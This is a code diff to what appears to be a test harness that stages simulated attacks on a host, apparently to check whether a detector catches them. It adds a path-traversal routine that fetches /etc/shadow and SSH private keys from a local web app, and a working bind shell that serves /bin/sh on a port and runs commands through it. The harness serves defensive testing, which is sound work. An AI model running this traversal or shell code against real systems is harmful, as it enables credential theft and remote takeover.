@@ -10,6 +10,7 @@ the paths differ, and the host is left as it was.
 
 from __future__ import annotations
 
+import socket
 import subprocess
 import sys
 import time
@@ -29,6 +30,9 @@ class Outcome:
     started: float          # wall time just before its first syscall
     pids: list[int] = field(default_factory=list)
     not_attack_pids: list[int] = field(default_factory=list)   # helpers in its cgroup
+    # processes that start as helpers and are turned by the attack at `started`: what
+    # they raised before it is not the attack's
+    turned_pids: list[int] = field(default_factory=list)
 
 
 def _out(proc: subprocess.Popen, timeout: float = 60) -> str:
@@ -54,6 +58,62 @@ def web_injection(ctx) -> Outcome:
     text = body.decode(errors="replace")
     return Outcome("uid=" in text, f"response {len(body)} bytes", started, [],
                    [app.pid])
+
+
+def credential_read(ctx) -> Outcome:
+    """Path traversal through the web application's static files: a fresh instance (as a
+    deploy starts it) is asked for the password hashes and a private key, which the
+    application never read before."""
+    port = ctx.free_port()
+    app = ctx.spawn([PY, str(HERE / "webapp.py"), str(port), str(ctx.root / "attack-read")],
+                    stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
+    app.stdout.readline()
+    time.sleep(2)       # its start-up (a deploy's news) apart from the attack
+    got = b""
+    started = time.time()
+    try:
+        for path in ("etc/shadow", "root/.ssh/id_rsa", "etc/ssh/ssh_host_ed25519_key"):
+            try:
+                got += urllib.request.urlopen(f"http://127.0.0.1:{port}/static/"
+                                              f"..%2f..%2f..%2f..%2f..%2f..%2f..%2f{path}",
+                                              timeout=30).read()
+            except OSError:
+                pass        # a key this host does not have: 404
+    finally:
+        app.terminate()
+        app.wait(10)
+    return Outcome(b"root:" in got, f"{len(got)} bytes of credentials", started, [],
+                   turned_pids=[app.pid])
+
+
+BIND = r"""
+import os, socket, subprocess, sys
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1])))
+s.listen(1)
+print("listening", flush=True)
+c, _ = s.accept()
+subprocess.run(["/bin/sh"], stdin=c, stdout=c, stderr=c)
+c.close()
+"""
+
+
+def bind_shell(ctx) -> Outcome:
+    """A shell served on a port: a program listening where it never listened, its shell
+    taken over by whoever connects."""
+    port = ctx.free_port()
+    started = time.time()
+    p = ctx.spawn([PY, "-c", BIND, str(port)], stdout=subprocess.PIPE,
+                  stderr=subprocess.PIPE)
+    p.stdout.readline()
+    got = b""
+    with socket.create_connection(("127.0.0.1", port), timeout=20) as c:
+        c.sendall(b"id; uname -a; cat /etc/hostname; exit\n")
+        while chunk := c.recv(65536):
+            got += chunk
+    _out(p)
+    return Outcome(b"uid=" in got, f"connector got {len(got)} bytes", started, [p.pid])
 
 
 def reverse_shell(ctx) -> Outcome:
@@ -199,4 +259,6 @@ KINDS = {
     "cryptominer": cryptominer,
     "persistence": persistence,
     "download-run": download_run,
+    "credential-read": credential_read,
+    "bind-shell": bind_shell,
 }
